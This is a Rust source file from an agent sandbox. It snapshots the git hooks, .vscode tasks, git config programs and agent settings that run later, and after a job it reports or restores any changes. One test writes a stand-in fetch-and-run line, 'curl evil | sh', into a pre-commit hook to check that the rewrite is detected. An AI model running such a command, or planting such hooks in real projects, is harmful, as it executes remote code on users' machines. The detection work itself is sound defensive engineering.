@@ -1,0 +1,529 @@
+//! What runs later, compared by content: a snapshot of every location
+//! `policy::autorun` resolves, taken right before the job starts and
+//! compared after every process of the job is dead (issue P9).
+//!
+//! Why content and not change times: a file written in an earlier session
+//! and renamed into place (`x/tasks.json`, then `mv x .vscode`) keeps its
+//! old `ctime`, and so does everything inside a directory renamed into
+//! place; what the next tool runs is what is there, however it got there.
+//! So each location is kept as what it *is* at the start — a regular
+//! file's SHA-256 (an agent's settings: what they make the agent run), a
+//! link's target, a directory's entries — and compared with what it is at
+//! the end. The locations are resolved again at the end and the two sets
+//! joined, so a path that a changed config newly names is compared too
+//! (against what was there at the start: nothing, or the user's file).
+//!
+//! Safe to read: the start runs before the job, the end after it; links
+//! are never followed in the last component, never descended into as
+//! directories, and only regular files are opened (a FIFO cannot block
+//! the check). Bounded: [`MAX_ENTRIES`] entries per tree, at most
+//! `autorun::MAX_LOCATIONS` locations; what is left unchecked is a finding.
+//!
+//! Agent settings outside the project that a preset lets the agent write
+//! (`~/.claude/settings.json`, `~/.codex/config.toml`, …) are the agent's
+//! state as much as its configuration, so writes to them cannot be refused
+//! without breaking the agent. Instead, when the session changed what they
+//! make the agent run, the file is put back as it was at the start and the
+//! session's version is set aside next to it for the user to review
+//! ([`restore`]): nothing the job added runs at the next start, and nothing
+//! is lost.
+
+use std::collections::BTreeMap;
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+
+use crate::policy::autorun::{self, Compare, Files, Kind, Location, Roots};
+
+/// Entries compared per tree location (a hooks directory, `.vscode/`).
+pub const MAX_ENTRIES: usize = 4096;
+/// How deep a tree location is followed.
+const MAX_DEPTH: usize = 8;
+
+/// What a path is, as far as running it later goes.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Seen {
+    Absent,
+    Dir,
+    /// A regular file: the SHA-256 of its content, or for an agent's
+    /// settings of [`autorun::runs`]; `bytes` kept where it may be put
+    /// back ([`restore`]).
+    File {
+        digest: String,
+        bytes: Option<Vec<u8>>,
+    },
+    Link(OsString),
+    /// A device, FIFO or socket.
+    Other,
+    /// Could not be read: why.
+    Unreadable(String),
+}
+
+impl Seen {
+    /// Equal for running later: the digests (the kept bytes are a copy).
+    fn same(&self, other: &Seen) -> bool {
+        match (self, other) {
+            (Seen::File { digest: a, .. }, Seen::File { digest: b, .. }) => a == b,
+            (a, b) => a == b,
+        }
+    }
+}
+
+/// One location that changed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Change {
+    pub path: PathBuf,
+    /// Why the path is watched (`autorun::Location::why`).
+    pub why: String,
+    pub before: Seen,
+    pub after: Seen,
+    pub compare: Compare,
+    /// For an agent's settings: the keys whose values changed.
+    pub keys: Vec<String>,
+}
+
+impl Change {
+    /// "created", "changed", … for the finding.
+    pub fn describe(&self) -> String {
+        let what = match (&self.before, &self.after) {
+            (_, Seen::Unreadable(why)) => format!("cannot be checked: {why}"),
+            (_, Seen::Link(to)) => format!(
+                "now a symbolic link to {}",
+                crate::text::escape(&to.to_string_lossy())
+            ),
+            (Seen::Absent, _) => "created during the session".into(),
+            _ if !self.keys.is_empty() => format!(
+                "what it runs changed during the session ({})",
+                self.keys.join(", ")
+            ),
+            _ => "changed during the session".into(),
+        };
+        format!("{what}; runs later as {}", self.why)
+    }
+}
+
+/// The start's view.
+#[derive(Debug, Clone)]
+pub struct Snapshot {
+    roots: Roots,
+    locations: Vec<Location>,
+    seen: BTreeMap<PathBuf, Seen>,
+    /// The start could not hold every location: the finding for it.
+    unchecked: Vec<(PathBuf, String)>,
+}
+
+impl Snapshot {
+    /// Right before the job starts.
+    pub fn take(roots: Roots) -> Snapshot {
+        Snapshot::take_in(roots, &RealFiles)
+    }
+
+    fn take_in(roots: Roots, files: &dyn Files) -> Snapshot {
+        let resolved = autorun::resolve(&roots, files);
+        let mut snap = Snapshot {
+            roots,
+            locations: resolved.locations,
+            seen: BTreeMap::new(),
+            unchecked: Vec::new(),
+        };
+        if resolved.truncated {
+            snap.unchecked.push((
+                snap.roots.project.clone(),
+                format!(
+                    "more than {} places where something runs later were named: the rest is not checked",
+                    autorun::MAX_LOCATIONS
+                ),
+            ));
+        }
+        let mut seen = BTreeMap::new();
+        for l in &snap.locations {
+            if let Err(at) = expand(l, files, &mut seen, snap.keeps_bytes(l)) {
+                snap.unchecked.push(at);
+            }
+        }
+        snap.seen = seen;
+        snap
+    }
+
+    /// Agent settings outside the project are kept whole, to be put back.
+    fn keeps_bytes(&self, l: &Location) -> bool {
+        l.compare != Compare::Bytes && !l.path.starts_with(&self.roots.project)
+    }
+
+    /// After every process of the job is dead: what changed, and what
+    /// could not be checked.
+    pub fn compare(&self) -> (Vec<Change>, Vec<(PathBuf, String)>) {
+        self.compare_in(&RealFiles)
+    }
+
+    fn compare_in(&self, files: &dyn Files) -> (Vec<Change>, Vec<(PathBuf, String)>) {
+        let mut unchecked = self.unchecked.clone();
+        let mut changes = Vec::new();
+        for l in &self.locations {
+            let mut after = BTreeMap::new();
+            if let Err(at) = expand(l, files, &mut after, false) {
+                unchecked.push(at);
+            }
+            // The start's entries under this location that are gone now
+            // are removals: nothing runs from a removed file.
+            for (path, seen) in after {
+                let before = self.seen.get(&path).cloned().unwrap_or(Seen::Absent);
+                if before.same(&seen)
+                    || matches!(seen, Seen::Absent)
+                    || matches!((&before, &seen), (Seen::Dir, Seen::Dir))
+                    || changes.iter().any(|c: &Change| c.path == path)
+                {
+                    continue;
+                }
+                let keys = match (&before, &seen) {
+                    (Seen::File { digest: b, .. }, Seen::File { digest: a, .. })
+                        if l.compare != Compare::Bytes && !l.tree =>
+                    {
+                        autorun::runs_changed(b, a)
+                    }
+                    _ => Vec::new(),
+                };
+                changes.push(Change {
+                    path,
+                    why: l.why.clone(),
+                    before,
+                    after: seen,
+                    compare: if l.tree { Compare::Bytes } else { l.compare },
+                    keys,
+                });
+            }
+        }
+        (changes, unchecked)
+    }
+
+    /// Whether `path` is agent settings outside the project that the
+    /// session changed and that [`restore`] puts back.
+    pub fn restorable(&self, change: &Change) -> bool {
+        change.compare != Compare::Bytes
+            && !change.path.starts_with(&self.roots.project)
+            && matches!(
+                change.before,
+                Seen::File { bytes: Some(_), .. } | Seen::Absent
+            )
+    }
+}
+
+/// `l` and, for a tree, everything in it, into `out`; `Err`: where the
+/// bound was reached.
+fn expand(
+    l: &Location,
+    files: &dyn Files,
+    out: &mut BTreeMap<PathBuf, Seen>,
+    keep: bool,
+) -> Result<(), (PathBuf, String)> {
+    let compare = if l.tree { Compare::Bytes } else { l.compare };
+    let seen = seen_at(&l.path, compare, files, keep);
+    let is_dir = seen == Seen::Dir;
+    out.insert(l.path.clone(), seen);
+    if !l.tree || !is_dir {
+        return Ok(());
+    }
+    let mut count = 0usize;
+    let mut stack = vec![(l.path.clone(), 0usize)];
+    while let Some((dir, depth)) = stack.pop() {
+        let Some(entries) = files.list(&dir, MAX_ENTRIES + 1 - count) else {
+            out.insert(dir, Seen::Unreadable("cannot be listed".into()));
+            continue;
+        };
+        count += entries.len();
+        if count > MAX_ENTRIES {
+            return Err((
+                l.path.clone(),
+                format!("more than {MAX_ENTRIES} entries: not checked whole"),
+            ));
+        }
+        for (name, kind) in entries {
+            let child = dir.join(name);
+            if kind == Kind::Dir {
+                out.insert(child.clone(), Seen::Dir);
+                if depth + 1 >= MAX_DEPTH {
+                    return Err((child, "too deep: not checked whole".into()));
+                }
+                stack.push((child, depth + 1));
+            } else {
+                out.insert(child.clone(), seen_at(&child, Compare::Bytes, files, false));
+            }
+        }
+    }
+    Ok(())
+}
+
+fn seen_at(path: &Path, compare: Compare, files: &dyn Files, keep: bool) -> Seen {
+    match files.kind(path) {
+        None => Seen::Absent,
+        Some(Kind::Dir) => Seen::Dir,
+        Some(Kind::Other) => Seen::Other,
+        Some(Kind::Symlink) => match std::fs::read_link(path) {
+            Ok(to) => Seen::Link(to.into_os_string()),
+            Err(e) => Seen::Unreadable(e.to_string()),
+        },
+        Some(Kind::File) => match files.read(path, autorun::MAX_CONFIG) {
+            None => Seen::Unreadable(format!(
+                "not readable, or larger than {} MiB",
+                autorun::MAX_CONFIG >> 20
+            )),
+            Some(bytes) => Seen::File {
+                digest: match compare {
+                    Compare::Bytes => crate::hash::sha256_hex(&[&bytes]),
+                    c => autorun::runs(&bytes, c),
+                },
+                bytes: keep.then_some(bytes),
+            },
+        },
+    }
+}
+
+/// Put agent settings the session changed back as they were at the start
+/// and set the session's version aside beside them, never following a
+/// link (the job may have replaced the file or its directory with one).
+/// The line to print.
+#[cfg(target_os = "linux")]
+pub fn restore(change: &Change) -> String {
+    use crate::sandbox::safe_fs::{Dir, Parents};
+    let shown = crate::text::path_name(&change.path);
+    let (Some(dir), Some(name)) = (
+        change.path.parent(),
+        change.path.file_name().and_then(|n| n.to_str()),
+    ) else {
+        return format!("warning: could not put {shown} back: not a file name");
+    };
+    let put_back = Dir::open(dir, Parents::AsNamed).and_then(|d| {
+        let aside = match change.after {
+            Seen::Absent => None,
+            _ => Some(d.set_aside(name)?),
+        };
+        if let Seen::File {
+            bytes: Some(bytes), ..
+        } = &change.before
+        {
+            d.write_file(name, bytes, 0o600)?;
+        }
+        Ok(aside)
+    });
+    match put_back {
+        Ok(Some(aside)) => format!(
+            "put {shown} back as it was before the session; the session's version is at {} (review it, and copy it back to keep it)",
+            crate::text::escape(&dir.join(aside).to_string_lossy())
+        ),
+        Ok(None) => format!("put {shown} back as it was before the session"),
+        Err(e) => format!(
+            "warning: could not put {shown} back ({}): review it before the agent starts again",
+            crate::text::escape(&e.to_string())
+        ),
+    }
+}
+
+/// The real filesystem.
+pub struct RealFiles;
+
+impl Files for RealFiles {
+    fn kind(&self, path: &Path) -> Option<Kind> {
+        let ft = std::fs::symlink_metadata(path).ok()?.file_type();
+        Some(kind_of(ft))
+    }
+
+    fn read(&self, path: &Path, max: u64) -> Option<Vec<u8>> {
+        use std::io::Read;
+        // Never through a link in the last component, nor a FIFO.
+        let f = crate::sandbox::safe_fs::open_regular(path).ok()?;
+        let mut bytes = Vec::new();
+        f.take(max + 1).read_to_end(&mut bytes).ok()?;
+        (bytes.len() as u64 <= max).then_some(bytes)
+    }
+
+    fn list(&self, dir: &Path, max: usize) -> Option<Vec<(OsString, Kind)>> {
+        let mut out = Vec::new();
+        for entry in std::fs::read_dir(dir).ok()?.take(max) {
+            let entry = entry.ok()?;
+            out.push((
+                entry.file_name(),
+                entry.file_type().map_or(Kind::Other, kind_of),
+            ));
+        }
+        Some(out)
+    }
+}
+
+fn kind_of(ft: std::fs::FileType) -> Kind {
+    if ft.is_symlink() {
+        Kind::Symlink
+    } else if ft.is_dir() {
+        Kind::Dir
+    } else if ft.is_file() {
+        Kind::File
+    } else {
+        Kind::Other
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::cell::RefCell;
+
+    use super::*;
+
+    /// Paths to contents (`None`: a directory); changed between take and
+    /// compare.
+    #[derive(Default)]
+    struct Fake(RefCell<BTreeMap<PathBuf, Option<Vec<u8>>>>);
+
+    impl Fake {
+        fn file(&self, path: &str, content: &str) -> &Self {
+            let p = PathBuf::from(path);
+            let mut m = self.0.borrow_mut();
+            for a in p.ancestors().skip(1) {
+                m.entry(a.to_path_buf()).or_insert(None);
+            }
+            m.insert(p, Some(content.as_bytes().to_vec()));
+            self
+        }
+
+        /// `mv from to`, with everything below.
+        fn rename(&self, from: &str, to: &str) {
+            let mut m = self.0.borrow_mut();
+            let moved: Vec<_> = m.keys().filter(|p| p.starts_with(from)).cloned().collect();
+            for p in moved {
+                let v = m.remove(&p).unwrap_or(None);
+                let rel = p.strip_prefix(from).unwrap_or(Path::new(""));
+                m.insert(Path::new(to).join(rel), v);
+            }
+        }
+    }
+
+    impl Files for Fake {
+        fn kind(&self, path: &Path) -> Option<Kind> {
+            self.0
+                .borrow()
+                .get(path)
+                .map(|c| if c.is_some() { Kind::File } else { Kind::Dir })
+        }
+        fn read(&self, path: &Path, _: u64) -> Option<Vec<u8>> {
+            self.0.borrow().get(path).cloned().flatten()
+        }
+        fn list(&self, dir: &Path, _: usize) -> Option<Vec<(OsString, Kind)>> {
+            Some(
+                self.0
+                    .borrow()
+                    .iter()
+                    .filter(|(p, _)| p.parent() == Some(dir))
+                    .map(|(p, c)| {
+                        let kind = if c.is_some() { Kind::File } else { Kind::Dir };
+                        (p.file_name().unwrap_or_default().to_os_string(), kind)
+                    })
+                    .collect(),
+            )
+        }
+    }
+
+    fn roots() -> Roots {
+        Roots {
+            project: PathBuf::from("/p"),
+            home: Some(PathBuf::from("/h")),
+            agent_files: vec![(PathBuf::from("/h/.claude/settings.json"), Compare::Json)],
+        }
+    }
+
+    fn changed(f: &Fake, before: &Snapshot) -> Vec<String> {
+        before
+            .compare_in(f)
+            .0
+            .iter()
+            .map(|c| c.path.display().to_string())
+            .collect()
+    }
+
+    #[test]
+    fn a_directory_renamed_into_place_is_a_change_whatever_its_times() {
+        let f = Fake::default();
+        f.file("/p/x/tasks.json", "{\"tasks\":[]}");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.rename("/p/x", "/p/.vscode");
+        assert_eq!(changed(&f, &snap), ["/p/.vscode", "/p/.vscode/tasks.json"]);
+    }
+
+    #[test]
+    fn a_hook_rewritten_in_the_configured_hooks_path_is_a_change() {
+        let f = Fake::default();
+        f.file("/p/.git/config", "[core]\n\thooksPath = .githooks\n")
+            .file("/p/.githooks/pre-commit", "#!/bin/sh\nmake lint\n");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.file("/p/.githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
+        let (changes, unchecked) = snap.compare_in(&f);
+        assert!(unchecked.is_empty());
+        assert_eq!(changes.len(), 1, "{changes:?}");
+        assert!(
+            changes[0].why.contains("core.hookspath"),
+            "{:?}",
+            changes[0]
+        );
+    }
+
+    #[test]
+    fn pointing_git_at_a_new_program_is_a_change_of_the_config_that_names_it() {
+        let f = Fake::default();
+        f.file("/p/.git/config", "[core]\n\tbare = false\n")
+            .file("/p/tools/mon", "the user's");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.file("/p/.git/config", "[core]\n\tfsmonitor = tools/mon\n");
+        f.file("/p/tools/mon", "the job's");
+        assert_eq!(changed(&f, &snap), ["/p/.git/config"]);
+    }
+
+    #[test]
+    fn a_program_the_config_named_at_the_start_rewritten_is_a_change() {
+        let f = Fake::default();
+        f.file(
+            "/p/.git/config",
+            "[filter \"lfs\"]\n\tprocess = ./bin/filter --x\n",
+        )
+        .file("/p/bin/filter", "the user's");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.file("/p/bin/filter", "the job's");
+        assert_eq!(changed(&f, &snap), ["/p/bin/filter"]);
+    }
+
+    #[test]
+    fn an_agents_own_state_written_is_no_change_and_a_hook_is_and_is_restorable() {
+        let f = Fake::default();
+        f.file("/h/.claude/settings.json", r#"{"model":"a"}"#);
+        let snap = Snapshot::take_in(roots(), &f);
+        f.file("/h/.claude/settings.json", r#"{"model":"b"}"#);
+        assert!(changed(&f, &snap).is_empty());
+        f.file(
+            "/h/.claude/settings.json",
+            r#"{"model":"b","hooks":{"SessionStart":[]}}"#,
+        );
+        let (changes, _) = snap.compare_in(&f);
+        assert_eq!(changes.len(), 1);
+        assert_eq!(changes[0].keys, ["hooks"]);
+        assert!(snap.restorable(&changes[0]));
+        assert!(changes[0].describe().contains("hooks"));
+    }
+
+    #[test]
+    fn removals_run_nothing_and_are_no_change() {
+        let f = Fake::default();
+        f.file("/p/.envrc", "use nix");
+        let snap = Snapshot::take_in(roots(), &f);
+        f.0.borrow_mut().remove(Path::new("/p/.envrc"));
+        assert!(changed(&f, &snap).is_empty());
+    }
+
+    #[test]
+    fn a_tree_beyond_its_bound_is_unchecked_not_passed() {
+        let f = Fake::default();
+        for i in 0..=MAX_ENTRIES {
+            f.file(&format!("/p/.vscode/{i}"), "x");
+        }
+        let snap = Snapshot::take_in(roots(), &f);
+        let (_, unchecked) = snap.compare_in(&f);
+        assert!(
+            unchecked.iter().any(|(p, _)| p == Path::new("/p/.vscode")),
+            "{unchecked:?}"
+        );
+    }
+}
